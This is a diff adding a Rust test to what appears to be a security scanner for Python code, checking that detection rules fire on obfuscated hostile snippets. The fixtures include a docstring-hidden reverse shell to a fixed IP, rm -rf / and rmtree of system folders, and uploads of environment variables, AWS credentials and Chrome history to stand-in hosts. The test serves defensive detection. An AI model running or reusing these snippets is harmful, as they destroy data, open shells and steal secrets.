@@ -1374,3 +1374,55 @@ fn a_registry_filled_by_a_decorator_and_dispatched_by_a_run_time_key() {
         "import os, subprocess\nPARTS = {0: 'curl', 1: '--data-binary', 2: '@' + os.path.expanduser('~/.aws/credentials'), 3: 'https://c.example.net/u'}\nclass Argv(list):\n    @classmethod\n    def build(cls, table):\n        return cls(table[i] for i in sorted(table))\nsubprocess.run(Argv.build(PARTS))\n",
     );
 }
+
+#[test]
+fn code_kept_in_docstrings_and_text_made_by_the_programs_own_classes() {
+    // Code indented inside a string, dedented before it runs.
+    fires(
+        "CRD209",
+        "import textwrap\ncode = textwrap.dedent('''\n    import os\n    os.system('id')\n''')\nexec(code)\n",
+    );
+    // A reverse shell kept as a function's docstring and run from `inspect.getdoc`.
+    fires(
+        "CRD101",
+        "import inspect\ndef payload():\n    '''\n    import socket, subprocess\n    s = socket.create_connection(('203.0.113.7', 4444))\n    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n    '''\nexec(inspect.getdoc(payload))\n",
+    );
+    // The same through `__doc__` and `inspect.cleandoc`.
+    fires(
+        "CRD209",
+        "import inspect\ndef notes():\n    '''import subprocess\n    subprocess.run(['id'])\n    '''\nexec(inspect.cleandoc(notes.__doc__))\n",
+    );
+    // `str()`, an f-string and `repr()` of an instance are what its dunder methods return.
+    fires(
+        "CRD104",
+        "import os\nclass Cmd:\n    def __str__(self):\n        return 'rm -rf / --no-preserve-root'\nos.system(str(Cmd()))\n",
+    );
+    fires(
+        "CRD104",
+        "import os\nclass Target:\n    def __format__(self, spec):\n        return '/etc'\nos.system(f'rm -rf {Target()}')\n",
+    );
+    fires(
+        "CRD104",
+        "import shutil\nclass Where:\n    def __repr__(self):\n        return '/usr'\nshutil.rmtree(repr(Where()))\n",
+    );
+    // `format(**fields)` of a dict with known keys.
+    fires(
+        "CRD104",
+        "import os\nparts = {'cmd': 'rm', 'arg': '-rf', 'where': '/'}\nos.system('{cmd} {arg} {where}'.format(**parts))\n",
+    );
+    // `enumerate` of a known list gives its items.
+    fires(
+        "CRD104",
+        "import shutil\nfor i, p in enumerate(['/etc', '/usr']):\n    shutil.rmtree(p)\n",
+    );
+    // `http.client`'s `request(method, url, body, headers)`: the body leaves the machine.
+    fires(
+        "CRD109",
+        "import http.client, json, os\nconn = http.client.HTTPSConnection('t.example.net')\nconn.request('POST', '/c', json.dumps(dict(os.environ)), {'Content-Type': 'application/json'})\n",
+    );
+    // A browser's history copied aside, then read back and sent.
+    fires(
+        "CRD109",
+        "import os, shutil, urllib.request\nshutil.copy(os.path.expanduser('~/.config/google-chrome/Default/History'), '/tmp/h.sqlite')\nurllib.request.urlopen('https://c.example.net/u', open('/tmp/h.sqlite', 'rb').read())\n",
+    );
+}
